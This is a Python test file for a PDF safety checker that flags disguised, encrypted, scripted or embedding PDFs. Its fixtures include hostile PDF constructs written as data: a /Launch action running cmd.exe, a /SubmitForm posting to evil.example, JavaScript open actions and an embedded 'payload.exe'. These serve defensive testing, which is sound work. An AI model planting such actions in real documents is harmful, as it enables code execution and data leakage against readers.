"""pdfcheck: a public document must be a real, passive PDF; every fixture is real bytes."""

from __future__ import annotations

import json
import logging
import random
import re
import time
from io import BytesIO

import pytest
from pdf_fixtures import (
    DISGUISED,
    JS_ACTION,
    PNG,
    clean_pdf,
    incremental_update,
    object_stream,
    raw_pdf,
    rewrite,
    stream,
    with_catalog,
)
from pypdf import PdfReader
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from trustlist.core import pdfcheck, report
from trustlist.core.findings import Finding, Severity
from trustlist.core.pdfcheck import check_pdf


def codes(data: bytes) -> list[str]:
    return [problem.code for problem in check_pdf(data)]


def with_annotation(annotation: bytes, *objects: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>"
    return raw_pdf(annotation, *objects, page=page)


# --- passes -------------------------------------------------------------------------------


def test_clean_fpdf2_pdf_passes() -> None:
    # fpdf2 writes /OpenAction [page /FitH null]: a destination, not an action, so it passes.
    data = clean_pdf()
    assert b"/OpenAction" in data
    assert check_pdf(data) == []


def test_web_links_are_allowed() -> None:
    data = clean_pdf(link="https://gov.kz/ai")
    assert b"/URI" in data
    assert check_pdf(data) == []


def test_hand_written_minimal_pdf_passes() -> None:
    assert check_pdf(raw_pdf()) == []


def test_internal_goto_and_named_actions_pass() -> None:
    data = with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage >> >>",
    )
    assert check_pdf(data) == []


# --- PDF001: disguised files --------------------------------------------------------------


@pytest.mark.parametrize(("data", "kind"), DISGUISED)
def test_disguised_file_is_pdf001_only(data: bytes, kind: str) -> None:
    problems = check_pdf(data)
    assert [p.code for p in problems] == ["PDF001"]
    assert kind in problems[0].message


# --- PDF002: not parseable, or no pages ---------------------------------------------------


def test_random_bytes_after_header_are_pdf002() -> None:
    junk = random.Random(7).randbytes(4096)
    problems = check_pdf(b"%PDF-1.7\n" + junk)
    assert [p.code for p in problems] == ["PDF002"]
    assert "Traceback" not in problems[0].message


def test_truncated_pdf_is_pdf002() -> None:
    # Observed: pypdf (strict=False) does not rebuild a file cut anywhere before its final
    # "%%EOF" line; it raises ("Stream has ended unexpectedly"), so every such cut is PDF002.
    data = clean_pdf()
    end = data.rindex(b"%%EOF")
    for cut in range(5, end, 7):
        assert codes(data[:cut]) == ["PDF002"], cut


def test_pdf_missing_only_part_of_eof_marker_is_accepted() -> None:
    # Observed and accepted: with xref, trailer and startxref intact, pypdf tolerates a cut
    # inside the "%%EOF" marker; nothing of the document itself is lost.
    data = clean_pdf()
    assert check_pdf(data[: data.rindex(b"%%EOF") + 2]) == []


def test_zero_page_pdf_is_pdf002() -> None:
    data = raw_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     ")
    problems = check_pdf(data)
    assert [p.code for p in problems] == ["PDF002"]
    assert "no pages" in problems[0].message


def test_cyclic_page_tree_is_pdf002() -> None:
    assert codes(raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")) == ["PDF002"]


def test_deeply_nested_object_is_pdf002_not_recursion_error() -> None:
    deep = b"[" * 50_000 + b"]" * 50_000
    assert codes(raw_pdf(b"<< /X " + deep + b" >>")) == ["PDF002"]


def test_damaged_copies_never_raise() -> None:
    # Bytes flipped at random (fixed seed): whatever pypdf makes of them, check_pdf answers.
    rng, data = random.Random(2024), clean_pdf(link="https://gov.kz")
    for _ in range(300):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 6)):
            damaged[rng.randrange(5, len(damaged))] = rng.randrange(256)
        assert set(codes(bytes(damaged))) <= set(pdfcheck.RULES) - {"PDF001"}


def test_too_many_objects_is_pdf002(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfcheck, "MAX_OBJECTS", 20)
    problems = check_pdf(raw_pdf(*[b"<< /N %d >>" % n for n in range(30)]))
    assert [p.code for p in problems] == ["PDF002"]
    assert "too complex" in problems[0].message


def test_object_streams_beyond_the_inflate_budget_are_pdf002(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(pdfcheck, "MAX_INFLATED", 1000)
    assert codes(raw_pdf(object_stream({9: b"(" + b"x" * 2000 + b")"}))) == ["PDF002"]


def test_references_to_missing_objects_stay_cheap() -> None:
    # pypdf alone searches the whole file once per missing object number: these 20,000
    # dangling page references took it about 30 s. The checker must not inherit that.
    kids = b" ".join(b"%d 0 R" % (1_000_000 + n) for n in range(20_000))
    data = raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [3 0 R " + kids + b"]")
    started = time.monotonic()
    assert check_pdf(data) == []
    assert time.monotonic() - started < 5


def test_xref_pointing_at_wrong_objects_is_repaired_in_one_pass() -> None:
    # Every entry points at object 1. pypdf alone re-searches the file for each object
    # (about a minute here); the checker re-indexes once and still finds the script.
    data = raw_pdf(*[b"<< /N %d >>" % n for n in range(20_000)], JS_ACTION)
    head, xref, tail = data.partition(b"\nxref\n")
    data = head + xref + re.sub(rb"\d{10} 00000 n", b"0000000015 00000 n", tail)
    started = time.monotonic()
    assert codes(data) == ["PDF004"]
    assert time.monotonic() - started < 15


# --- PDF003: encrypted --------------------------------------------------------------------


@pytest.mark.parametrize(("user", "owner"), [("secret", None), ("", "owner-only")])
def test_encrypted_pdf_is_pdf003(user: str, owner: str | None) -> None:
    # The second case opens without a password (restrictions only): still encrypted.
    data = rewrite(clean_pdf(), lambda writer: writer.encrypt(user, owner, algorithm="RC4-128"))
    problems = check_pdf(data, "registry/health/x/a.pdf")
    assert [p.code for p in problems] == ["PDF003"]
    assert problems[0].message == "'a.pdf' is encrypted; publish an unencrypted PDF"


def test_aes256_encrypted_pdf_is_pdf003_without_crypto_package() -> None:
    # Without `cryptography` pypdf cannot open AES-256 files at all (DependencyError); the
    # applicant must still hear "encrypted", not "cannot be read".
    encrypt = (
        b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <%s> /U <%s> "
        b"/OE <%s> /UE <%s> /Perms <%s> >> "
        % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16)
    )
    assert codes(raw_pdf(trailer=encrypt)) == ["PDF003"]


# --- PDF004: JavaScript -------------------------------------------------------------------


def test_document_level_javascript_is_pdf004() -> None:
    data = rewrite(clean_pdf(), lambda w: w.add_open_action(JavaScript("app.alert(1)")))
    assert codes(data) == ["PDF004"]


def test_open_action_javascript_is_pdf004() -> None:
    assert codes(with_catalog(b"/OpenAction 4 0 R", JS_ACTION)) == ["PDF004"]


def test_javascript_in_link_annotation_is_pdf004() -> None:
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>" % JS_ACTION
    assert codes(with_annotation(annotation)) == ["PDF004"]


def test_javascript_in_page_additional_actions_is_pdf004() -> None:
    def add(writer) -> None:
        writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert(1)"))

    assert codes(rewrite(clean_pdf(), add)) == ["PDF004"]


def test_javascript_in_form_field_is_pdf004() -> None:
    field = (
        b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /K 5 0 R >> >>"
    )
    data = raw_pdf(
        field,
        JS_ACTION,
        catalog=b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
    )
    assert codes(data) == ["PDF004"]


def test_javascript_added_with_pypdf_dictionaries_is_pdf004() -> None:
    def add(writer) -> None:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }
        )
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([]),
                NameObject("/A"): writer._add_object(action),
            }
        )
        writer.add_annotation(0, annotation)

    assert codes(rewrite(clean_pdf(), add)) == ["PDF004"]


def test_hex_escaped_names_are_decoded() -> None:
    # /J#61vaScript is /JavaScript to every reader; a byte search would miss it.
    assert codes(with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>")) == ["PDF004"]


def test_javascript_behind_a_next_chain_is_pdf004() -> None:
    data = with_catalog(
        b"/OpenAction 4 0 R",
        b"<< /S /URI /URI (https://gov.kz) /Next [5 0 R] >>",
        b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
        JS_ACTION,
    )
    # The script is found behind the chain; the web address at its head opens by itself.
    assert codes(data) == ["PDF004", "PDF007"]


def test_cyclic_next_chain_terminates_and_reports_javascript() -> None:
    data = with_catalog(
        b"/OpenAction 4 0 R",
        b"<< /S /URI /URI (https://gov.kz) /Next 5 0 R >>",
        b"<< /S /JavaScript /JS (app.alert(1)) /Next 4 0 R >>",
    )
    problems = check_pdf(data)
    assert [p.code for p in problems] == ["PDF004", "PDF007"]  # PDF007: the /URI opens itself
    assert "/JS" in problems[0].message or "/JavaScript" in problems[0].message


def test_javascript_in_unreferenced_object_is_pdf004() -> None:
    # Referenced by nothing: no viewer runs it today, but the bytes would be published.
    assert codes(raw_pdf(JS_ACTION)) == ["PDF004"]


def test_javascript_outside_the_xref_is_pdf004() -> None:
    assert codes(raw_pdf(unlisted=(JS_ACTION,))) == ["PDF004"]


def test_javascript_removed_by_incremental_update_is_still_pdf004() -> None:
    # An editor "removes" a script by appending a new revision; the old one stays in the
    # file, and viewers can show earlier revisions, so the published bytes still carry it.
    data = incremental_update(
        with_catalog(b"/OpenAction 4 0 R", JS_ACTION), 4, b"<< /S /URI /URI (https://gov.kz) >>"
    )
    assert PdfReader(BytesIO(data)).get_object(4)["/S"] == "/URI"
    assert codes(data) == ["PDF004", "PDF007"]  # and the new revision opens a web address


def test_javascript_inside_an_object_stream_is_pdf004() -> None:
    # A classic xref cannot list packed objects, so member 9 is reached only by parsing.
    assert codes(raw_pdf(object_stream({9: JS_ACTION}))) == ["PDF004"]


# --- PDF005: actions that reach outside ---------------------------------------------------


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
        b"<< /S /ImportData /F (data.fdf) >>",
        b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
        b"<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
    ],
)
def test_outside_actions_are_pdf005(action: bytes) -> None:
    assert codes(with_catalog(b"/OpenAction 4 0 R", action)) == ["PDF005"]


def test_launch_in_link_annotation_is_pdf005() -> None:
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>"
    assert codes(with_annotation(annotation, b"<< /S /Launch /F (a.exe) >>")) == ["PDF005"]


# --- PDF006: embedded content -------------------------------------------------------------


def test_attachment_is_pdf006() -> None:
    data = rewrite(clean_pdf(), lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00"))
    assert codes(data) == ["PDF006"]


def test_file_attachment_annotation_is_pdf006() -> None:
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>"
    spec = b"<< /Type /Filespec /F (a.txt) /EF << /F 6 0 R >> >>"
    data = with_annotation(annotation, spec, stream(b"hello", b"/Type /EmbeddedFile "))
    assert codes(data) == ["PDF006"]


def test_rich_media_annotation_is_pdf006() -> None:
    annotation = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
    assert codes(with_annotation(annotation)) == ["PDF006"]


def test_xfa_form_is_pdf006() -> None:
    data = with_catalog(b"/AcroForm << /Fields [] /XFA 4 0 R >>", stream(b"<xdp:xdp/>"))
    assert codes(data) == ["PDF006"]


def test_every_problem_is_reported_together() -> None:
    data = with_catalog(
        b"/OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [] >> >>",
        b"<< /S /JavaScript /JS (x) /Next << /S /Launch /F (a.exe) >> >>",
    )
    assert codes(data) == ["PDF004", "PDF005", "PDF006"]


# --- the module's contract ----------------------------------------------------------------


def test_messages_are_one_plain_line() -> None:
    for data in (PNG, b"%PDF-1.7\nnonsense", raw_pdf(JS_ACTION), clean_pdf()[:500]):
        for problem in check_pdf(data):
            assert "\n" not in problem.message
            assert problem.code in pdfcheck.RULES


def test_a_problem_is_a_finding_at_the_file_in_every_format() -> None:
    # The checker's problems are the project's findings: a rule code, at the file (line 0),
    # said from messages/ in kk, ru and en, printed by the one reporter table.
    path = "registry/health/demo/audit.pdf"
    [finding] = check_pdf(PNG, path)
    assert isinstance(finding, Finding)
    assert (finding.path, finding.line, finding.code, finding.severity) == (
        path,
        0,
        "PDF001",
        Severity.ERROR,
    )
    assert finding.text("ru").startswith("'audit.pdf' не является PDF")
    assert finding.text("kk").startswith("'audit.pdf' PDF емес")
    shown = {
        name: report.render(report.Report([finding], "subject"), name) for name in report.REPORTERS
    }
    assert shown["text"].startswith(f"{path}: error[PDF001] 'audit.pdf' is not a PDF (it looks ")
    assert json.loads(shown["json"])["findings"] == [finding.as_dict()]
    assert json.loads(shown["json"])["findings"][0]["code"] == "PDF001"
    assert shown["github"].startswith(f"::error file={path},title=PDF001::'audit.pdf' is not")
    assert f"| `{path}` | PDF001 |" in shown["markdown"]


def test_without_a_path_a_problem_names_no_file() -> None:
    # What the verdict cache keeps: the bytes' findings, which documents.py names.
    [finding] = check_pdf(PNG)
    assert (finding.path, finding.code) == ("", "PDF001")
    assert dict(finding.values)["name"] == ""


def test_pypdf_warnings_are_silenced(caplog: pytest.LogCaptureFixture) -> None:
    broken = raw_pdf().replace(b"startxref\n", b"startxref\n9")  # a wrong xref offset
    caplog.set_level(logging.DEBUG)
    PdfReader(BytesIO(broken))
    assert any(r.name.startswith("pypdf") for r in caplog.records)  # pypdf does complain
    caplog.clear()
    check_pdf(broken)
    assert not [r for r in caplog.records if r.name.startswith("pypdf")]
    assert logging.getLogger("pypdf").level == logging.NOTSET  # and the level is restored
